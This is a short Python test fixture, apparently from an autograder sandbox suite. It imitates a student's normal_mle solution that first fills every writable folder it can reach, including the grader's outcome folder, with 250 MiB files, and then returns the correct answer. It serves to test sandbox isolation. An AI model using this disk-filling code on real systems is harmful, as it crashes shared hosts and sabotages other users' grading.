"""Attack: normal_mle writes 250 MiB files in a loop into every folder it can write (its working folder, its
home, /tmp, /dev/shm and the folder the grader reads its outcomes from) until none has room left; then it
answers right. On the host's disk this filled a 1.2 GB filesystem, failed a classmate's check and crashed the
batch (issue 11). In its own bounded space it costs normal_mle only: its outcomes find no room."""

import os

import numpy as np

BASE = "../../../../samples/01_normal_mle/ada_correct"


def normal_mle(x):
    outcomes = os.path.join(os.path.dirname(os.path.dirname(os.environ["MLE_COURSE_CALLS"])), "run")
    block = bytes(250 * 1024 * 1024)
    for folder in (".", os.path.expanduser("~"), "/tmp", "/dev/shm", outcomes):
        index = 0
        while True:
            try:
                with open(os.path.join(folder, f"filler-{index}"), "wb") as handle:
                    handle.write(block)
            except OSError:
                break
            index += 1
    x = np.asarray(x, dtype=float)
    if x.size == 0:
        raise ValueError("x is empty")
    return float(x.mean()), float(x.std())
